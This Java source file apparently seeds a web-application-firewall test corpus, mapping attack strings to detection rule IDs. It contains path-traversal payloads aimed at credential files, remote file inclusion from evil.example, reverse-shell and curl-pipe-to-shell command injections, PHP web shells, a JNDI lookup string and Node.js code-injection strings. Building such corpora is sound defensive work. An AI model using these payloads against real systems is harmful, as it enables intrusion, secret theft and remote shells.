package dev.tdeveloper.security.waf.corpus;

import java.util.List;

/**
 * Payloads that target the server side: local and remote file inclusion, OS command injection, PHP,
 * Java and Node.js code injection.
 */
final class SystemSeeds {

  private SystemSeeds() {}

  static List<Seed> lfi() {
    String f = "lfi";
    return List.of(
        Seed.of(f, "file", "../../../../etc/passwd", "930110", 1, "qfjdcam"),
        Seed.of(f, "template", "....//....//....//etc/shadow", "930120", 1, "qfj"),
        Seed.of(
            f, "doc", "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts", "930110", 1, "qfj"),
        Seed.of(f, "path", "/proc/self/environ", "930120", 1, "qfjc"),
        Seed.of(f, "lang", "../../../../../var/log/apache2/access.log", "930110", 1, "qfd"),
        Seed.of(f, "file", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "930100", 1, "q"),
        Seed.of(f, "file", "/static/../../../../etc/passwd", "930110", 1, "p"),
        Seed.of(f, "file", "/.git/config", "930130", 1, "p"),
        Seed.of(f, "file", "/.env", "930130", 1, "p"),
        Seed.of(f, "file", "/.ssh/id_rsa", "930130", 1, "p"),
        Seed.of(f, "file", "/app/.aws/credentials", "930130", 1, "p"),
        Seed.of(f, "file", "/.htpasswd", "930130", 1, "p"),
        Seed.of(f, "file", "/wp-config.php", "930130", 1, "p"));
  }

  static List<Seed> rfi() {
    String f = "rfi";
    return List.of(
        Seed.of(f, "url", "http://192.168.10.5/shell.txt", "931100", 1, "qfj"),
        Seed.of(f, "page", "https://evil.example/shell.txt?", "931120", 1, "qfj"),
        Seed.of(f, "mosConfig_absolute_path", "http://evil.example/c99.txt", "931110", 1, "qf"),
        Seed.of(f, "path", "ftp://10.0.0.7/backdoor.php", "931100", 1, "qfj"),
        Seed.of(f, "img", "https://evil.example/payload.php", "931130", 2, "qf"),
        Seed.of(f, "include", "file://10.1.1.1/share/x.php??", "931", 1, "q"));
  }

  static List<Seed> rce() {
    String f = "rce";
    return List.of(
        Seed.of(f, "host", "127.0.0.1;cat /etc/passwd", "932", 1, "qfjm"),
        Seed.of(f, "host", "example.com | id", "932", 1, "qfjc"),
        Seed.of(f, "name", "$(whoami)", "932130", 1, "qfjcd"),
        Seed.of(f, "name", "`uname -a`", "932", 1, "qfj"),
        Seed.of(f, "host", "127.0.0.1 & ping -n 3 127.0.0.1 &", "932", 1, "qfj"),
        Seed.of(f, "cmd", "x; powershell -enc SQBFAFgA", "932", 1, "qf"),
        Seed.of(f, "q", "127.0.0.1 && curl http://evil.example/x.sh | sh", "932", 1, "qfjc"),
        Seed.of(f, "host", "x;nc -e /bin/sh 10.0.0.1 4444", "932", 1, "qfj"),
        Seed.of(f, "cb", "/bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "932160", 1, "qfjd"),
        Seed.of(f, "q", "a=$(cat${IFS}/etc/passwd)", "932", 1, "qf"),
        Seed.of(f, "host", "| cmd.exe /c dir c:\\", "932", 1, "qf"),
        Seed.of(f, "q", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "932171", 1, "q"),
        Seed.of(f, "q", "() { :; }; /bin/bash -c 'id'", "932170", 1, "a"),
        Seed.of(f, "q", ";/usr/bin/wget http://evil.example/x -O /tmp/x", "932", 1, "qfj"),
        Seed.of(f, "q", "/???/??t /???/p??s??", "932190", 3, "qf"));
  }

  static List<Seed> php() {
    String f = "php";
    return List.of(
        Seed.of(f, "code", "<?php system($_GET['c']); ?>", "933", 1, "qfjm"),
        Seed.of(f, "file", "php://input", "933140", 1, "qfj"),
        Seed.of(
            f, "file", "php://filter/convert.base64-encode/resource=index.php", "933140", 1, "qf"),
        Seed.of(f, "file", "expect://id", "933200", 1, "qf"),
        Seed.of(f, "data", "O:8:\"stdClass\":1:{s:4:\"test\";s:3:\"abc\";}", "933170", 1, "qfj"),
        Seed.of(f, "code", "assert(base64_decode('cGhwaW5mbygpOw=='))", "933", 1, "qfj"),
        Seed.of(f, "cfg", "allow_url_include=On", "933120", 1, "qf"),
        Seed.of(f, "v", "$_SERVER['HTTP_USER_AGENT']", "933130", 1, "qfc"),
        Seed.of(f, "file", "phar://./uploads/avatar.jpg/test.txt", "933200", 1, "qf"),
        Seed.of(f, "t", "<?= shell_exec($_GET[\"c\"]) ?>", "933100", 1, "qf"),
        Seed.of(f, "cb", "call_user_func_array('system', array('id'))", "933", 1, "qf"),
        Seed.of(f, "x", "[php]echo 1;[/php]", "933100", 1, "q"));
  }

  static List<Seed> java() {
    String f = "java";
    return List.of(
        Seed.of(f, "expr", "java.lang.Runtime.getRuntime().exec(\"id\")", "944100", 1, "qfjc"),
        Seed.of(f, "expr", "new java.lang.ProcessBuilder(\"id\").start()", "944", 1, "qfj"),
        Seed.of(f, "expr", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "944100", 1, "qf"),
        Seed.of(
            f,
            "obj",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "944130",
            1,
            "qfj"),
        Seed.of(f, "v", "javax.script.ScriptEngineManager", "944130", 1, "qf"),
        Seed.of(
            f,
            "s",
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ",
            "944210",
            2,
            "qfc"),
        Seed.of(f, "x", "${jndi:ldap://evil.example/a}", "932130", 1, "qfj"));
  }

  static List<Seed> nodejs() {
    String f = "nodejs";
    return List.of(
        Seed.of(
            f,
            "profile",
            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
            "934100",
            1,
            "qfj"),
        Seed.of(f, "q", "this.constructor.constructor('return process')()", "934100", 1, "qf"),
        Seed.of(f, "q", "new Function('return process.env')()", "934100", 1, "qf"),
        Seed.of(f, "cb", "eval(atob('YWxlcnQoMSk='))", "934100", 1, "qj"),
        Seed.of(f, "m", "module.exports = require('child_process')", "934100", 1, "f"),
        // base64 of "eval(require('fs').readFileSync('/etc/hosts'))", caught after t:base64Decode
        Seed.of(
            f,
            "b",
            "ZXZhbChyZXF1aXJlKCdmcycpLnJlYWRGaWxlU3luYygnL2V0Yy9ob3N0cycpKQ==",
            "934100",
            1,
            "q"));
  }
}
